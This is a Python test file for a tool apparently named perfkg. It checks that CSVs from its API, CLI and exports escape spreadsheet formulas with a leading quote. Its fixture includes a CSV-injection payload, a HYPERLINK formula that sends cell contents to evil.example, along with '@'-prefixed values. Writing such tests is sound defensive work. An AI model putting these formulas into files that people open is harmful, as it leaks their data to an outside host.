"""Every CSV perfkg writes is safe to open in a spreadsheet: text that starts
like a formula (= + - @, or a tab or carriage return) gets OWASP's leading
single quote; numbers stay numbers. (Issue 11, case 9.)"""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from perfkg.api.app import create_app
from perfkg.cli import app
from perfkg.config import Settings
from perfkg.export import spreadsheet_safe
from perfkg.store.falkor import FalkorStore

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("value, cell", [
    (FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain 文本", "plain 文本"), ("a=b", "a=b"),
    (-5.5, "-5.5"), (-3, "-3"), (None, ""), (True, "true"), (["=x"], '["=x"]'),
])
def test_cells(value, cell):
    assert spreadsheet_safe(value) == cell


@pytest.fixture
def hostile_store(tmp_path):
    path = tmp_path / "hostile.db"
    with FalkorStore(path, create=True) as store:
        store.write("CREATE (:Department {id: 'd', name: $name, short_name: $name})-[:PUBLISHED]->"
                    "(:Report {id: 'r', year: 2021, source_file: '@evil.txt', execution_rate: -5.5})",
                    {"name": FORMULA})
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_api_s_csv_is_safe(hostile_store):
    with TestClient(create_app(Settings(store=str(hostile_store)))) as http:
        response = http.get("/queries/budget_execution", params={"format": "csv"})
    cells = _cells(response.text)
    assert "'" + FORMULA in cells and "'@evil.txt" in cells and "-5.5" in cells
    assert FORMULA not in cells


def test_the_cli_s_csv_is_safe(hostile_store):
    result = CliRunner().invoke(app, ["query", "budget_execution", "--format", "csv", "--store", str(hostile_store)])
    cells = _cells(result.output)
    assert "'" + FORMULA in cells and "'@evil.txt" in cells and "-5.5" in cells


def test_the_exported_csv_files_are_safe(hostile_store, tmp_path):
    result = CliRunner().invoke(app, ["export", "--format", "csv", "-o", str(tmp_path / "csv"),
                                      "--store", str(hostile_store)])
    assert result.exit_code == 0, result.output
    departments = _cells((tmp_path / "csv" / "nodes_Department.csv").read_text(encoding="utf-8"))
    reports = _cells((tmp_path / "csv" / "nodes_Report.csv").read_text(encoding="utf-8"))
    assert "'" + FORMULA in departments and FORMULA not in departments
    assert "'@evil.txt" in reports and "-5.5" in reports
